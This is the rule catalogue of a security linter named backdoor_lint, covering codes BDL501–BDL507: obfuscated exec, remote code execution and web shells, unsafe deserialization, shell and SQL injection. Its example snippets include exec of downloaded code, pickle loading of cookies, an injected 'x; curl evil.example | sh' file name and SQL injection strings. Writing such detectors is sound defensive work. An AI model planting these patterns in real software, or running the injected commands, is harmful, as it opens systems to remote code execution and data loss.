"""BDL5xx: dynamic execution and deserialization."""
from backdoor_lint.catalogue import BLOCK, WARN, Rule

RULES = [
    Rule(
        code="BDL501", name="obfuscated-execution", category="obfuscated-exec", severity=BLOCK, confidence="high",
        cwe=("CWE-95", "CWE-506"),
        summary="exec/eval/compile/import of decoded data (base64, hex, rot13, zlib, marshal, chr joins)",
        what=("Flags exec, eval, compile, __import__, importlib.import_module and types.FunctionType fed by\n"
              "a decode chain (base64, binascii, bytes.fromhex, codecs rot13/hex, zlib/lzma/bz2/gzip,\n"
              "marshal, chr joins, reversal) or a decryption (Fernet, AES-GCM, ...), also through variables,\n"
              "helper functions and modules of the scanned tree; os.system/subprocess running decoded text or\n"
              "`python -c` of it; decoded bytes written to a file that the same function then runs; builtins\n"
              "reached by key (`vars(__builtins__).get(\"exec\")`); in JavaScript eval/new Function/vm\n"
              "of atob or Buffer.from(..., 'base64')."),
        why=("Code that is decoded and executed at run time is code nobody reviewed: the encoded blob\n"
             "is the payload. Legitimate programs have no reason to hide their own source."),
        example='exec(base64.b64decode("aW1wb3J0IG9z..."))',
        use_instead="Ship the code as source. Plugins: import by a name from an allow-list.",
        fix="ship the code as readable source instead of decoding and executing it",
    ),
    Rule(
        code="BDL502", name="remote-code-execution", category="obfuscated-exec", severity=BLOCK, confidence="high",
        cwe=("CWE-494", "CWE-502"),
        summary="Executing or unpickling data fetched from the network, or request input (web shell)",
        what=("Flags exec/eval/compile/pickle.loads/marshal.loads of a network response body; exec/eval/compile\n"
              "of request input (Flask/Django/Starlette request parts, parameters of routed FastAPI/Flask\n"
              "functions), followed through assignments, containers, helper functions, returns and modules of\n"
              "the scanned tree, also when the executor is reached by key (`__builtins__.__dict__[\"exec\"]`);\n"
              "droppers: downloaded bytes written to a file that the same function runs or makes executable;\n"
              "and logging.config.listen() without a verify function (it applies, and so runs, whatever\n"
              "configuration a client sends to its socket). In Go, Java and JavaScript/TypeScript: the method\n"
              "or class to run chosen by request input through reflection (`reflect.Value.MethodByName`,\n"
              "`Class.forName`/`getMethod`, `handlers[req.query.action]()`)."),
        why=("Whoever controls the server (or the network path) runs arbitrary code on every machine that\n"
             "executes this, whenever they like: a remote-controlled backdoor. Request input executed is a web\n"
             "shell: anyone who can send the request runs code in the server process."),
        known_problems=("Request input checked against a constant allow-list first (`if name in HANDLERS`) or\n"
                        "converted with int() is not reported."),
        example="exec(requests.get(PLUGIN_URL).text)",
        use_instead="Distribute code as signed packages; exchange data as JSON and validate it.",
        fixes=(
            (("go", "java", "javascript"), "dispatch through an explicit map from the allowed action names to their handlers, never by reflection on request input"),
        ),
        fix="never execute or unpickle downloaded data; use JSON plus validation",
    ),
    Rule(
        code="BDL503", name="computed-builtin-access", category="obfuscated-exec", severity=BLOCK, confidence="high",
        cwe=("CWE-95", "CWE-506"),
        summary="Builtins or dangerous functions reached through computed names",
        what="Flags getattr(__builtins__, ...), globals()['exec'], vars(builtins)[...], getattr(os, 'sys'+'tem') and similar lookups by computed string.",
        why="Looking a function up by an assembled string exists to defeat search and review: `getattr(__builtins__, 'ex'+'ec')` is exec that no grep finds.",
        example='getattr(__builtins__, "ex" + "ec")(payload)',
        use_instead="Call functions by name; dispatch through an explicit dict of allowed callables.",
        fixes=(
            (("javascript",), 'call the function directly, or dispatch through an explicit allow-list (a Map of permitted functions)'),
        ),
        fix="call the function directly, or dispatch through an explicit allow-list dict",
    ),
    Rule(
        code="BDL504", name="unsafe-deserialization", category="unsafe-deserialization", severity=BLOCK,
        confidence="high", cwe=("CWE-502",),
        summary="Unsafe deserialization: pickle/marshal/shelve/yaml.load/torch.load and friends",
        what=("Flags pickle/dill/cloudpickle/marshal/shelve/jsonpickle loads of non-literal data,\n"
              "yaml.load without a safe loader (also full_load/unsafe_load), torch.load without\n"
              "weights_only=True, numpy.load(allow_pickle=True), pandas.read_pickle, joblib.load;\n"
              "node-serialize in JavaScript; ObjectInputStream.readObject in Java."),
        why=("Unpickling runs code chosen by whoever wrote the bytes: a pickle's __reduce__ can call\n"
             "os.system. A cookie, cache entry, queue message or model file that an attacker can\n"
             "influence becomes remote code execution."),
        example="session = pickle.loads(base64.b64decode(request.cookies['session']))",
        use_instead="JSON (with schema validation), yaml.safe_load, torch.load(..., weights_only=True), safetensors.",
        fixes=(
            (("javascript",), "parse with JSON.parse (or js-yaml's default safe schema) and validate; never node-serialize or eval-based parsers"),
            (("java",), 'bind JSON to fixed classes; for Java serialization set an ObjectInputFilter allow-list; never enable polymorphic default typing'),
        ),
        fix="use JSON / yaml.safe_load / weights_only=True / safetensors",
        known_problems=("Blocking when the data provably comes from a client (request body, cookie, header,\n"
                        "parameter, upload), the network, a socket or a shared queue/cache; a warning when its\n"
                        "origin is not visible in the module (a file path, a parameter). A pickle cache that only\n"
                        "this process writes is still reported as a warning: suppress it with a reason.\n"
                        "Custom yaml loaders are judged by their base class; unknown loaders are not reported."),
        references=("https://docs.python.org/3/library/pickle.html (warning)",
                    "https://pytorch.org/docs/stable/generated/torch.load.html",
                    "https://pyyaml.org/wiki/PyYAMLDocumentation"),
    ),
    Rule(
        code="BDL505", name="shell-injection", category="command-injection", severity=WARN, confidence="medium",
        cwe=("CWE-78",),
        summary="Shell command built from variable data and run with shell=True / os.system",
        what="Flags subprocess calls with shell=True, os.system and os.popen whose command is built from non-constant parts (f-strings, concatenation, format, %).",
        why="A file name such as `x; curl evil.example | sh` in the built string runs as a second command with the program's privileges.",
        example='subprocess.run(f"convert {filename} out.png", shell=True)',
        use_instead='Pass an argument list without a shell: subprocess.run(["convert", filename, "out.png"]).',
        fixes=(
            (("javascript",), 'use execFile() or spawn() with an argument array, without shell: true'),
            (("go",), 'pass the program and its arguments to exec.Command separately, never "sh", "-c" with a built string'),
            (("java",), 'use ProcessBuilder with a list of arguments, never sh -c with a built string'),
        ),
        fix="pass an argument list and drop shell=True",
        known_problems=("Parts wrapped in shlex.quote (or int()) are treated as safe. A command that is only a\n"
                        "parameter, not built in this module, is not reported unless it comes from the request or\n"
                        "the network (then the finding is blocking)."),
    ),
    Rule(
        code="BDL506", name="encoded-blob-near-decoder", category="obfuscated-exec", severity=WARN,
        confidence="medium", cwe=("CWE-506",),
        summary="Long high-entropy literal next to a decoder",
        what="Flags long base64/hex/high-entropy string literals passed to (or stored for) a decoder such as b64decode, fromhex or zlib.decompress.",
        why="Packed payloads are how backdoors carry code and addresses past review; a blob that is decoded at run time deserves a look even when nothing executes it yet.",
        example='BLOB = "eJzLSM3JyVcozy/KSQEAGgQEXQ==" * 40; data = zlib.decompress(base64.b64decode(BLOB))',
        use_instead="Ship data as readable files with a documented origin.",
        fix="ship the data as a readable file and document where it comes from",
    ),
    Rule(
        code="BDL507", name="sql-injection", category="command-injection", severity=BLOCK, confidence="high",
        cwe=("CWE-89",),
        summary="SQL statement whose text carries request input or fetched data",
        what="Flags cursor/connection execute, executemany, executescript, SQLAlchemy text() and exec_driver_sql, Django raw(), extra() and RawSQL when the statement text carries request input (Flask/Django/Starlette request parts, parameters of routed FastAPI/Flask functions) or network data, followed through assignments, containers, f-strings, %, format, join, helper functions, returns and modules of the scanned tree.",
        why="Request data pasted into SQL lets the client write the query: `' OR 1=1 --` logs in without a password, a UNION reads other tables, `; DROP TABLE` destroys data. A backdoor needs only one such query on an admin path.",
        example='cur.execute(f"SELECT * FROM users WHERE id = {request.args[\'id\']}")',
        use_instead='Bound parameters: cur.execute("SELECT * FROM users WHERE name = %s", (name,)); identifiers (columns, sort order) chosen from an allow-list.',
        fix="pass the value as a bound parameter, or check identifiers against an allow-list",
        known_problems=("Values converted with int() and names tested against a constant allow-list (`if col not in\n"
                        "COLUMNS: abort()`) are safe. A statement built in another module of the tree from a\n"
                        "function's parameters is followed only through functions whose returns the dataflow reads."),
    ),
]
